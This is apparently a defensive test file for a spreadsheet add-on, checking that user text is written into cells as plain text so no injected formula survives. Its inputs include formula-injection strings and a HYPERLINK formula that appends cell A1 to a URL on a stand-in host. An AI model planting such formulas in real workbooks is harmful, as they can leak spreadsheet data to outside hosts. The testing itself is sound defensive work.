/**
 * Whatever writes into cells, over workbooks of hostile texts and asked by hostile requests: a text that would be read as
 * something else when it is typed goes into a cell that is formatted as text (`@`) at that moment, and no formula is anybody's
 * but the add-on's own or the one that a person had put there.
 */
import type { WorkbookModel } from '../../local/model/workbook-model';
import type { RunOptions, Runtime } from '../../local/runtime';
import type { CustomerCard, SavedTipReply, RecordedVisitReply, TodayModel } from '../../src/rpc/daily-model';
import { DECLINED_SHEET_SETTINGS } from '../../src/intake/pinned-sheets';
import type { InsertReply } from '../../src/rpc/help-model';
import type { AskedQuestion } from '../../src/rpc/intake-questions';
import { addRows, draftImport, type Call } from '../../src/sidebar/import/session';
import { actions, calls } from '../../src/main';
import { formulaExamples } from '../../src/sample/examples';
import { wanted } from '../support/goals-driver';
import { hostileBook } from '../support/hostile-book';
import { FORMULA_TEXTS } from '../support/payloads';
import { openProduct, sheetModel, workbook } from '../support/product-runtime';
import { countReliability } from '../support/reliability-figures';
import { placeOf, SCRIPT } from '../support/shared-cells';
import { formulasIn, isOwnFormula, type WatchedWrites, watchWrites } from '../support/watched-writes';

jest.setTimeout(600_000);

/** Beside formulas: what would become a number, and lose its beginning. */
const TYPED = [...FORMULA_TEXTS, '-5', '+81-90-1234-5678', '@佐藤'];
const TEXT = '=HYPERLINK("https://example.invalid/?"&A1,"ここ")';
const FORMULA = { name: 'KPI_VISITS', example: 0, isStamped: false, replace: null };

interface Watched {
  readonly runtime: Runtime;
  readonly writes: WatchedWrites;
  readonly menu: (name: string, ...args: unknown[]) => Promise<void>;
  readonly call: <T>(name: string, request?: unknown, options?: RunOptions) => Promise<T>;
}

const done: WatchedWrites[] = [];
const strange: string[] = [];
let ownCells: unknown[] = [];

interface Before {
  /** What a person does, by functions of {@link SCRIPT}. */
  readonly byHand?: readonly (readonly [name: string, ...args: unknown[]])[];
  /** Formulas that the person asks for: functions of the add-on. */
  readonly asked?: readonly string[];
}

/** One workbook, and what is done to it. */
async function over(
  model: WorkbookModel,
  work: (watched: Watched) => Promise<void>,
  { byHand = [], asked = [] }: Before = {},
): Promise<void> {
  const runtime = await openProduct(model, SCRIPT);
  try {
    for (const [name, ...args] of byHand) await runtime.runFunction(name, args);
    const theirs = new Set([...asked, ...formulasIn(runtime.toModel()).map(({ formula }) => formula)]);
    const writes = watchWrites(runtime, theirs);
    done.push(writes);
    const call = async <T>(name: string, request?: unknown, options: RunOptions = {}): Promise<T> => {
      const sent = request === undefined ? [] : [JSON.parse(JSON.stringify(request)) as unknown];
      const run = runtime.runFunction(name, sent, { ...options, kind: 'rpc' });
      const { value } = await run.catch((error: Error) => {
        throw new Error(`${name}(${JSON.stringify(request)}): ${error.message}`);
      });
      return value as T;
    };
    const menu = async (name: string, ...args: unknown[]) => void (await runtime.runFunction(name, args));
    await work({ runtime, writes, menu, call });
    for (const { place, formula } of formulasIn(runtime.toModel()))
      if (!isOwnFormula(formula) && !theirs.has(formula)) strange.push(`${place}: ${formula}`);
  } finally {
    runtime.dispose();
  }
}

/** Every call of the sidebar that writes, with that text in each place that takes a text. */
async function sidebar({ call }: Watched, text: string): Promise<void> {
  const version = (await call<{ version: string }>('goalsVersion')).version;
  const targets = [wanted('visits', 30 + TYPED.indexOf(text), { evidence: text })];
  const kgi = { target: String(1_000_000 + TYPED.indexOf(text)) };
  await call('saveGoals', { version, who: text, why: text, targets, kgi });
  const { form, asOf } = await call<TodayModel>('todayModel', { rep: text });
  const named = { customer: text, writtenName: text, number: text };
  const visit = { log: form.log, day: asOf, rep: text, ...named, kind: text, outcome: text, nextDay: '', note: text };
  const more = { purpose: text, reaction: text };
  const first = await call<RecordedVisitReply>('recordVisit', { ...visit, ...more, replaces: null });
  const second = await call<RecordedVisitReply>('recordVisit', {
    ...visit,
    ...more,
    note: `${text}!`,
    replaces: first.written,
  });
  await call('undoVisit', { written: second.written });
  await call('moveVisit', { ...visit, outcome: '延期', nextDay: '2024-07-08' });
  const tip = { title: text, words: text, kpi: 'visits', stage: 'contract', author: text, day: '2024-07-01' };
  const saved = await call<SavedTipReply>('saveTip', tip);
  await call('undoTip', saved.written);
  await call('saveTip', tip);
}

async function importInto({ call }: Watched, rows: string[][]): Promise<void> {
  const draft = await draftImport(call as Call, rows, {});
  if (draft.table === null || draft.plan === null) throw new Error('no table');
  await addRows(call as Call, `import-${rows[0]!.join()}`, { table: draft.table, plan: draft.plan }, () => undefined);
}

/** A book of these texts without the sheets of those names. */
const without = (...names: string[]): WorkbookModel => {
  const model = hostileBook(TYPED);
  return { ...model, sheets: model.sheets.filter(({ name }) => !names.includes(name)) };
};

beforeAll(async () => {
  // People's own words and formulas stand beside a written block, and its rows move.
  const beside = [
    ['refresh'],
    ['put', '顧客の状態', 'Z7', `'${TEXT}`],
    ['put', '顧客の状態', 'Z8', '=SUM($A$1:$B$1)'],
    ['put', '契約', 'F3', '2024/6/25'],
    ['put', '契約', 'F4', '2024/6/25'],
  ] as const;
  await over(
    hostileBook(TYPED),
    async ({ menu, runtime }) => {
      await menu('refresh');
      const { cells } = runtime.toModel().sheets.find(({ name }) => name === '顧客の状態')!;
      ownCells = cells.filter(({ column }) => column === 26).map(({ value, formula }) => formula ?? value ?? '');
      await menu('closeMonth', '2024-06');
      // Closing has made them already: with them gone there is something to write.
      for (const name of ['振り返り', '会議資料']) await runtime.runFunction('remove', [name]);
      await menu('makeReview');
    },
    { byHand: beside },
  );
  await over(
    without('改善'),
    async (watched) => {
      const { menu, call, runtime } = watched;
      await menu('createSettingsSheet');
      await menu('refresh');
      await menu('closeMonth', '2024-05');
      await menu('reopenMonth', '2024-05');
      await menu('closeMonth', '2024-06');
      await menu('copyMeeting');
      for (const text of [TEXT, '-5', "'=1+11", '+1+1', '@SUM(1+1)']) await sidebar(watched, text);
      const card = await call<CustomerCard>('customerCard', { customer: TEXT });
      await call('saveManagerWord', {
        customer: TEXT,
        priority: { before: card.manager.priority, text: '-2+3' },
        comment: { before: card.manager.comment, text: "'=1+11" },
      });
      await call('saveStage', { customer: TEXT, before: card.stage.typed, stage: 'contract' });
      const name = DECLINED_SHEET_SETTINGS[0]!.name.ja;
      await call('answerQuestion', { type: 'restore', rows: [...TYPED, null].map((value) => ({ name, value })) });
      await importInto(watched, [
        ['訪問日', '担当者', '顧客', '種別', '結果', 'メモ', TEXT],
        ...TYPED.map((text) => ['2024/6/20', text, text, text, text, text, text]),
      ]);
      await call('undoImport', { keepChanged: true });
      const selection = placeOf(runtime, '訪問', 'I2');
      const replace = '訪問!I2';
      const reply = await call<InsertReply>('insertFormula', { ...FORMULA, replace }, { selection });
      if (reply.kind !== 'inserted') throw new Error(JSON.stringify(reply));
      await call('undoInsert', reply.undo);
      await menu('refresh');
      await menu('removeEverything');
    },
    { asked: ['=KPI_VISITS()'] },
  );
  await over(without('担当者', '通話', 'ノウハウ'), async (watched) => {
    await watched.menu('proposeRepsSheet');
    await importInto(watched, [
      ['日時', '電話番号', '方向', '担当者', '結果', TEXT],
      ...TYPED.map((text) => ['2024/6/20 10:00', text, '発信', text, text, text]),
    ]);
    const { questions } = await watched.call<{ questions: AskedQuestion[] }>('intakeQuestions');
    for (const { question } of questions)
      if (question.type === 'join')
        await watched.call('answerQuestion', { ...question, declined: [], nameMeaning: 'none' }).catch(() => null);
  });
  const blank = workbook([sheetModel('会議', [['メモ']])]);
  await over(blank, ({ menu }) => menu('makeTemplate'));
  const examples = formulaExamples((pair) => pair.split('|')[0]!).flat();
  await over(blank, ({ menu }) => menu('insertSampleData', { visits: 20 }), {
    asked: examples.flatMap((cell) =>
      typeof cell === 'object' && cell !== null && 'formula' in cell ? cell.formula : [],
    ),
  });
  await over({ ...hostileBook(TYPED), locale: 'en_US' }, async ({ menu }) => {
    await menu('createSettingsSheet');
    await menu('refresh');
    await menu('closeMonth', '2024-05');
  });
});

test('every such text goes into a cell that is formatted as text at that moment', () => {
  expect(done.flatMap(({ unsafe }) => unsafe)).toEqual([]);
});

test('after all of it every formula is the add-on’s own, or a person’s', () => {
  expect(strange).toEqual([]);
  expect(ownCells).toEqual(expect.arrayContaining([TEXT, '=SUM($A$1:$B$1)']));
});

/** They write nothing into cells. */
const READING = [
  ...['onOpen', 'onInstall', 'onEdit', 'showSidebar', 'goalsModel', 'importState', 'showRows'],
  ...['helpTexts', 'helpFigures', 'customerList', 'selectedCustomer'],
];
/** They write words of people's; the others take away, read, or write words of the add-on's own. */
const WRITING_WORDS = [
  ...['refresh', 'closeMonth', 'reopenMonth', 'makeReview', 'proposeRepsSheet', 'insertSampleData', 'saveGoals'],
  ...['importRows', 'answerQuestion', 'undoInsert', 'recordVisit', 'moveVisit', 'saveManagerWord', 'saveTip'],
];

test('nothing that writes was left out, and such texts came wherever words of people are written', () => {
  const names = Object.keys({ ...actions, ...calls });
  const run = new Set(done.flatMap((each) => [...each.run]));
  expect(names.filter((name) => !run.has(name))).toEqual(READING);
  const textsOf = (name: string): number => done.reduce((sum, { texts }) => sum + (texts.get(name) ?? 0), 0);
  expect(names.filter((name) => textsOf(name) > 0)).toEqual(WRITING_WORDS);
  const payloads = names.reduce((sum, name) => sum + textsOf(name), 0);
  countReliability('hostile texts as they are written', { payloads });
});

test.each(['=1+1', '-5', "'=1+11", '@佐藤', '\t=1', '＝1+2', '\u0007=1'])(
  '%j in a plain cell would be seen',
  async (text) => {
    const runtime = await openProduct(workbook([sheetModel('会議', [['メモ']])]), SCRIPT);
    const { unsafe } = watchWrites(runtime);
    await runtime.runFunction('put', ['会議', 'A2', text]);
    await runtime.runFunction('put', ['会議', 'A3', 'a=1']);
    runtime.dispose();
    expect(unsafe).toEqual([`put: 会議 2,1 (null): ${JSON.stringify(text)}`]);
  },
);
